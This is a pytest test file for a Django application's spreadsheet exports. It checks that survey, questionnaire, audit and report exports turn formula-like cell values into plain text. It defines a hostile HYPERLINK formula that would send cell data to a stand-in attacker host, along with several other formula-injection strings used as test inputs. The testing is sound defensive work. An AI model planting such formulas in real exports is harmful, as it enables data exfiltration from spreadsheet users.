"""Every spreadsheet HowGood exports passes each cell through ``core.exports.safe_cell``:
text a spreadsheet would run as a formula comes back as text, on every export path."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from howgood.core.exports import csv_bytes, safe_cell, safe_row
from howgood.questionnaires import services as qservices
from howgood.questionnaires.examples import pulse_survey
from howgood.questionnaires.models import QuestionnaireVersion
from howgood.reports.models import GeneratedReport
from howgood.surveys import services as surveys
from tests.records.conftest import exercise, ready, template  # noqa: F401 - fixtures
from tests.records.test_findings import answers, read_and_moderate

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'


def every_cell(content: bytes) -> list[Any]:
    """Every cell of every sheet of an .xlsx file."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formulas(content: bytes) -> list[str]:
    return [f"{c.parent.title}!{c.coordinate}" for c in every_cell(content) if c.data_type == "f"]


def values(content: bytes) -> set[Any]:
    return {c.value for c in every_cell(content)}


class Titled:
    def __str__(self) -> str:
        return "=1+1"


def test_safe_cell_neutralises_text_keeps_numbers_and_never_lets_an_object_through() -> None:
    assert safe_cell(HYPERLINK) == "'" + HYPERLINK
    assert [safe_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]
    assert safe_cell(-3) == -3 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(date(2026, 1, 5)) == date(2026, 1, 5) and safe_cell(None) is None
    # A CSV writer would print str(thing) unchecked: safe_cell turns it into safe text first.
    assert safe_cell(Titled()) == "'=1+1"
    # Characters a workbook cannot store are dropped rather than failing the export.
    assert safe_cell("\x01=1+1") == "'=1+1"
    assert safe_row(["=1", 2, None]) == ["'=1", 2, None]
    rows = list(csv.reader(io.StringIO(csv_bytes(["=A"], [[Titled()]]).decode("utf-8-sig"))))
    assert rows == [["'=A"], ["'=1+1"]]


# --- The questionnaire as XLSForm -------------------------------------------------------------


XLSFORM_CSV = (
    "survey,type,name,label\n"
    f',begin_group,g1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
    ",select_one yn,q1,@SUM(A1)\n"
    ",end_group,g1,\n"
    "choices,list_name,name,label\n"
    ",yn,yes,+1 Yes\n"
    ",yn,no,No\n"
    "settings,form_title,form_id,\n"
    ",=1+1,hostile,\n"
)
REDCAP_CSV = (
    '"Variable / Field Name","Form Name","Section Header","Field Type","Field Label",'
    '"Choices, Calculations, OR Slider Labels"\n'
    "q1,=2+2,,text,Name of the team,\n"
)


@pytest.mark.django_db
def test_xlsform_export_writes_no_formula_from_titles_groups_labels_or_choices(
    cast, framework, client_for
) -> None:  # type: ignore[no-untyped-def]
    qservices.questionnaire_import(
        partnership=cast.a, files={"hostile.csv": XLSFORM_CSV.encode()}, actor=cast.coordinator
    )
    version = QuestionnaireVersion.objects.get()
    assert version.title == "=1+1"
    response = client_for("coordinator").get(
        reverse("questionnaires:version_export", args=[version.pk])
    )
    assert response.status_code == 200
    assert formulas(response.content) == []
    assert {"'" + HYPERLINK, "'@SUM(A1)", "'+1 Yes", "'=1+1"} <= values(response.content)


@pytest.mark.django_db
def test_a_redcap_form_name_is_exported_as_text(cast, framework, client_for) -> None:  # type: ignore[no-untyped-def]
    qservices.questionnaire_import(
        partnership=cast.a, files={"=3+3.csv": REDCAP_CSV.encode()}, actor=cast.coordinator
    )
    version = QuestionnaireVersion.objects.get()
    response = client_for("coordinator").get(
        reverse("questionnaires:version_export", args=[version.pk])
    )
    assert formulas(response.content) == []
    assert {"'=2+2", "'=3+3"} <= values(response.content)


# --- The audit trail, survey responses and reading data ----------------------------------------


@pytest.mark.django_db
def test_audit_csv_neutralises_what_people_named_things(cast, framework, client_for) -> None:  # type: ignore[no-untyped-def]
    qservices.questionnaire_import(
        partnership=cast.a, files={"hostile.csv": XLSFORM_CSV.encode()}, actor=cast.coordinator
    )
    response = client_for("lead").get(reverse("partnerships:audit_export"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = [row[6] for row in rows[1:]]
    assert labels and all(not label.startswith(("=", "+", "-", "@")) for label in labels)
    assert any(label.startswith("'=1+1") for label in labels)


@pytest.fixture
def survey(cast: Any, framework: Any) -> Any:
    """The pulse survey answered five times, with a formula typed as the role, and closed."""
    version = qservices.version_publish(
        version=qservices.questionnaire_import(
            partnership=cast.a,
            files={"p.xlsx": pulse_survey()},
            actor=cast.coordinator,
            kind="staff_survey",
        ),
        actor=cast.coordinator,
    )
    today = date.today()
    made = surveys.survey_create(
        partnership=cast.a,
        title="=1+1",
        version=version,
        audience=[cast.social_work],
        opens_on=today,
        closes_on=today + timedelta(days=20),
        access_mode="link",
        actor=cast.coordinator,
    )
    # Five answers (the threshold), then closed: results are given only then.
    for _ in range(5):
        response = surveys.response_start(survey=made, agency=cast.social_work)
        surveys.response_save(
            response=response,
            values={"role": "other", "role_other": HYPERLINK, "confident_risk": "agree"},
            section_index=2,
        )
        surveys.response_submit(response=response)
    return surveys.survey_close(survey=made, actor=cast.coordinator)


@pytest.mark.django_db
def test_survey_responses_csv_and_excel_neutralise_answers_and_titles(
    cast, survey, client_for
) -> None:  # type: ignore[no-untyped-def]
    client = client_for("coordinator")
    as_csv = client.get(reverse("surveys:export", args=[survey.pk, "csv"]))
    cells = [c for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for c in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    as_xlsx = client.get(reverse("surveys:export", args=[survey.pk, "xlsx"]))
    assert formulas(as_xlsx.content) == []
    assert "'" + HYPERLINK in values(as_xlsx.content)


@pytest.mark.django_db
def test_reading_data_workbook_neutralises_answers(
    cast,
    ready,  # noqa: F811
    framework,
    client_for,
    django_capture_on_commit_callbacks,
) -> None:  # type: ignore[no-untyped-def]
    def hostile(index: int, who: str) -> dict[str, Any]:
        return {**answers(index, who), "initial_quality_reason": HYPERLINK}

    read_and_moderate(cast, ready, hostile)
    client = client_for("coordinator")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("records:findings_export", args=[ready.pk, "xlsx"]))
    report = GeneratedReport.objects.latest("pk")
    content = client.get(reverse("reports:download", args=[report.pk])).content
    assert formulas(content) == []
    assert "'" + HYPERLINK in values(content)
